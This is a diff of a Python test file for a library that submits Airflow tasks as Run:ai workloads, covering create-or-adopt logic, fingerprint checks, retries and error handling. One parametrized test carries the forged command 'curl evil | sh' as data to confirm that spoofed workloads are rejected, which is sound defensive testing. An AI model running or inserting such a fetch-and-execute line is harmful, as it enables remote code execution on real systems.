@@ -4,24 +4,25 @@ from typing import Any
 
 import pytest
 
-from airflow_runai.backends.control_plane import create
+from airflow_runai.backends.control_plane import create, get
 from airflow_runai.backends.submission import (
-    LONGEST_GOODBYE,
+    LONG_LOOKS,
     LONGEST_PAUSE,
     LOOKS,
     MOST_CREATES,
     create_or_adopt,
-    end_and_wait,
     generations,
     patiently,
+    steadfastly,
     verify,
 )
 from airflow_runai.core.flow import Flow, Reply, Request
+from airflow_runai.core.note import Note
 from airflow_runai.core.workload import Workload
 from airflow_runai.errors import (
-    Conflict,
     Forbidden,
     ForeignWorkload,
+    Missing,
     Refused,
     Throttled,
     Unauthorized,
@@ -33,6 +34,12 @@ from tests.backends.rest import PROJECT, Answers, SmallPlane, html, item, order,
 from tests.core.stage import Hand
 
 LOST = Unreachable("the connection was reset")
+DIGEST = "0123456789"
+NOT_THERE = reply({"message": "not found"}, 404)
+
+
+def named(generation: int, slug: str = "train", **more: Any) -> dict[str, Any]:
+    return item(f"w-{generation}", **{"name": f"{slug}-{DIGEST}-g{generation}", **more})
 
 
 def test_a_create_that_is_answered_is_the_only_call() -> None:
@@ -107,7 +114,33 @@ def test_a_workload_of_somebody_else_is_never_adopted() -> None:
 
 def test_the_same_specification_from_another_try_is_ours() -> None:
     again = order()
-    assert Hand().run(verify(Workload("w", again.name, "Running", fingerprint=again.fingerprint), again)) is None
+    hand = Answers.hand(reply({"spec": again.body()["spec"]}))
+    assert hand.run(verify(Workload("w", again.name, "Running", fingerprint=again.fingerprint), again)) is None
+
+
+@pytest.mark.parametrize("phase", ["Running", "Completed"])
+@pytest.mark.parametrize("forged", [{"image": "evil:1"}, {"command": "curl evil | sh"}, {"args": "--other"}])
+def test_what_claims_our_fingerprint_must_agree_in_image_and_command(phase: str, forged: dict[str, str]) -> None:
+    ours = order(command="./train.sh", args="--epochs 3")
+    hand = Answers.hand(reply({"spec": {**ours.body()["spec"], **forged}}))
+    with pytest.raises(ForeignWorkload, match=f"spec.{next(iter(forged))}: running with"):
+        hand.run(verify(Workload("w", ours.name, phase, fingerprint=ours.fingerprint), ours))
+
+
+def test_silence_about_the_specification_is_not_taken_for_another_one() -> None:
+    ours = order()
+    found = Workload("w", ours.name, "Running", fingerprint=ours.fingerprint)
+    assert Answers.hand(reply(None), NOT_THERE, reply({"spec": ours.body()["spec"]})).run(verify(found, ours)) is None
+    with pytest.raises(Unreadable):
+        Answers.hand(reply(None)).run(verify(found, ours))
+
+
+def test_what_is_deleted_is_known_by_the_fingerprint_that_was_noted() -> None:
+    ours = order()
+    ended = Workload("w", ours.name, "Completed", deleted=True)
+    assert Hand().run(verify(ended, ours, ours.fingerprint)) is None
+    with pytest.raises(ForeignWorkload):
+        Hand().run(verify(ended, ours, "another"))
 
 
 @pytest.mark.parametrize(
@@ -116,7 +149,6 @@ def test_the_same_specification_from_another_try_is_ours() -> None:
         (reply({"message": "no scope"}, 403), Forbidden),
         (reply({"message": "no such project"}, 404), Refused),
         (reply({"message": "bad field", "complianceIssues": [{"field": "spec.x", "details": "max 1"}]}, 400), Refused),
-        (reply({"message": "taken"}, 409), Conflict),
         (reply({"message": "expired"}, 401), Unauthorized),
     ],
 )
@@ -125,6 +157,26 @@ def test_a_refusal_is_told_and_not_repeated(answer: Reply, error: type[Exception
     with pytest.raises(error):
         plane.hand().run(create_or_adopt(PROJECT, order()))
     assert (plane.creates, len(plane.workloads)) == (1, 0)
+
+
+@pytest.mark.parametrize("then", [reply({"message": "expired"}, 401), reply({"message": "bad"}, 400)])
+def test_a_refusal_after_a_create_that_may_have_arrived_is_no_refusal_of_it(then: Reply) -> None:
+    plane = SmallPlane(on_create=lambda number: LOST if number == 1 else then)
+    with pytest.raises(Unreachable, match="reset"):
+        plane.hand().run(create_or_adopt(PROJECT, order()))
+
+
+def test_a_refused_look_for_what_may_have_arrived_says_nothing_about_it() -> None:
+    plane = SmallPlane(lose_reply_of=(1,), list_answers=dict.fromkeys(range(1, 99), reply({"message": "no"}, 401)))
+    with pytest.raises(Unreachable, match="whether train-0123456789-g1 was created is not known"):
+        plane.hand().run(create_or_adopt(PROJECT, order()))
+    assert plane.creates == 1
+
+
+def test_a_name_that_is_taken_by_what_cannot_be_found_is_missing() -> None:
+    plane = SmallPlane(on_create=lambda number: reply({"message": "already exists"}, 409))
+    with pytest.raises(Missing, match="already exists; but it cannot be found"):
+        plane.hand().run(create_or_adopt(PROJECT, order()))
 
 
 def test_an_untrusted_certificate_is_not_tried_again() -> None:
@@ -172,74 +224,57 @@ def test_a_throttled_create_waits_as_asked_within_reason() -> None:
 
 
 def test_generations_come_from_both_lists_and_each_once() -> None:
-    alive = reply({"workloads": [item("w-2", name="b-g2"), item("w-3", name="b-g3")]})
-    gone = reply({"workloads": [item("w-1", name="b-g1"), item("w-2", name="b-g2")]})
-    hand = Answers.hand(alive, gone)
-    found = hand.run(generations(PROJECT, "b"))
-    assert [(w.id, w.deleted) for w in found] == [("w-2", False), ("w-3", False), ("w-1", True)]
+    alive = reply({"workloads": [named(2), named(3)]})
+    gone = reply({"workloads": [named(1), named(2)]})
+    hand = Answers.hand(alive, gone, reply(named(3)))
+    found = hand.run(generations(PROJECT, DIGEST))
+    assert [(n, w.id, w.deleted) for n, w in found] == [(1, "w-1", True), (2, "w-2", True), (3, "w-3", False)]
+
+
+def test_the_readable_part_of_a_name_identifies_nothing() -> None:
+    others = [named(1, name=f"x-{DIGEST}-g1-copy"), named(2, name="x-9876543210-g2"), named(3, name=f"x-{DIGEST}x-g3")]
+    hand = Answers.hand(reply({"workloads": [named(4, "renamed"), *others]}), reply({"workloads": []}), reply(named(4)))
+    assert [n for n, _ in hand.run(generations(PROJECT, DIGEST))] == [4]
+
+
+def test_the_newest_is_read_again_because_lists_lag() -> None:
+    listed = reply({"workloads": [named(1, environmentVariables={"AIRFLOW_RUNAI_TRY": "1"})]})
+    hand = Answers.hand(listed, reply({"workloads": []}), reply(named(1, phase="Failed")))
+    ((_, found),) = hand.run(generations(PROJECT, DIGEST))
+    assert (found.phase, found.try_number) == ("Failed", 1)
+
+
+@pytest.mark.parametrize("after", [0, 2])
+def test_what_was_noted_is_looked_up_by_its_id_where_lists_lack_it(after: int) -> None:
+    nothing = reply({"workloads": []})
+    hand = Answers.hand(nothing, nothing, *[NOT_THERE, nothing] * after, reply(named(1, projectId="elsewhere")))
+    ((generation, found),) = hand.run(generations(PROJECT, DIGEST, Note(1, 1, "w-1", f"train-{DIGEST}-g1")))
+    assert (generation, found.id, found.project_id) == (1, "w-1", "elsewhere")
+
+
+def test_what_was_noted_and_is_listed_as_deleted_is_deleted() -> None:
+    nothing = reply({"workloads": []})
+    hand = Answers.hand(nothing, nothing, NOT_THERE, reply({"workloads": [named(1)]}))
+    ((_, found),) = hand.run(generations(PROJECT, DIGEST, Note(1, 1, "w-1", f"train-{DIGEST}-g1")))
+    assert found.deleted
+
+
+def test_what_was_noted_and_cannot_be_found_is_looked_for_as_long_as_lists_may_lag() -> None:
+    nothing = reply({"workloads": []})
+
+    def answer(request: Request) -> Reply:
+        return nothing if request.path.endswith("/workloads") else NOT_THERE
+
+    hand = Hand(answer=answer)
+    assert hand.run(generations(PROJECT, DIGEST, Note(1, 1, "w-1", "train-g1"))) == []
+    assert sum(hand.slept) == sum(LOOKS)
 
 
 def test_generations_that_cannot_be_listed_stop_the_submission() -> None:
     hand = Answers.hand(Unreachable("down"))
     with pytest.raises(Unreachable):
-        hand.run(generations(PROJECT, "b"))
+        hand.run(generations(PROJECT, DIGEST))
     assert len(hand.asked) == len(LOOKS) + 1
-
-
-RUNNING = Workload("w-1", "b-g1", "Running", kind="Training")
-NOT_THERE = reply({"message": "not found"}, 404)
-
-
-class Leaving:
-    """Answers a delete, then shows the workload for so many reads."""
-
-    def __init__(self, reads: int, *last: Reply | Exception) -> None:
-        self.reads, self.last, self.methods = reads, last or (NOT_THERE,), ""
-
-    def __call__(self, request: Request) -> Reply:
-        self.methods += request.method[0]
-        if request.method == "DELETE":
-            return reply({}, 202)
-        self.reads -= 1
-        answer = (
-            reply(item(phase="Deleting")) if self.reads >= 0 else self.last[min(-1 - self.reads, len(self.last) - 1)]
-        )
-        if isinstance(answer, Exception):
-            raise answer
-        return answer
-
-
-def test_a_workload_is_deleted_once_and_waited_for_until_it_is_gone() -> None:
-    leaving = Leaving(3)
-    Hand(answer=leaving).run(end_and_wait(RUNNING))
-    assert leaving.methods == "DGGGG"
-
-
-@pytest.mark.parametrize("trouble", [LOST, html(404), html(200), reply({}, 503)])
-def test_trouble_while_it_leaves_is_not_taken_for_gone(trouble: Any) -> None:
-    leaving = Leaving(1, trouble, reply(item(phase="Deleting")), NOT_THERE)
-    Hand(answer=leaving).run(end_and_wait(RUNNING))
-    assert leaving.methods == "DGGGG"
-
-
-def test_what_somebody_already_deletes_is_only_waited_for() -> None:
-    leaving = Leaving(2)
-    Hand(answer=leaving).run(end_and_wait(Workload("w-1", "b-g1", "Deleting")))
-    assert leaving.methods == "GGG"
-
-
-@pytest.mark.parametrize(
-    "last", [reply(item(phase="Completed")), reply(item(phase="Failed")), reply(item(deletedAt="x"))]
-)
-def test_what_has_ended_on_the_way_holds_nothing_any_more(last: Reply) -> None:
-    Hand(answer=Leaving(0, last)).run(end_and_wait(RUNNING))
-
-
-def test_a_workload_that_does_not_leave_is_an_error_and_no_second_one_is_started() -> None:
-    hand = Hand(answer=Leaving(10**6))
-    with pytest.raises(Unreachable, match="b-g1 is still Deleting 900 s after its deletion"):
-        hand.run(end_and_wait(RUNNING))
-    assert sum(hand.slept) >= LONGEST_GOODBYE
 
 
 def test_patience_ends_and_the_last_error_is_told() -> None:
@@ -251,3 +286,15 @@ def test_patience_ends_and_the_last_error_is_told() -> None:
     with pytest.raises(Unreachable, match="still down"):
         hand.run(patiently(failing))
     assert hand.slept == list(LOOKS)
+
+
+@pytest.mark.parametrize("status", [401, 403, 404])
+def test_where_a_workload_may_be_alive_refusals_are_waited_out(status: int) -> None:
+    hand = Answers.hand(*[reply({"message": "no"}, status)] * 5, LOST, reply(named(1)))
+    found = hand.run(steadfastly(lambda: get("w-1")))
+    assert (found.id, hand.slept) == ("w-1", list(LONG_LOOKS[:6]))
+
+
+def test_even_then_not_for_ever() -> None:
+    with pytest.raises(Unauthorized):
+        Answers.hand(reply({"message": "no"}, 401)).run(steadfastly(lambda: get("w-1")))
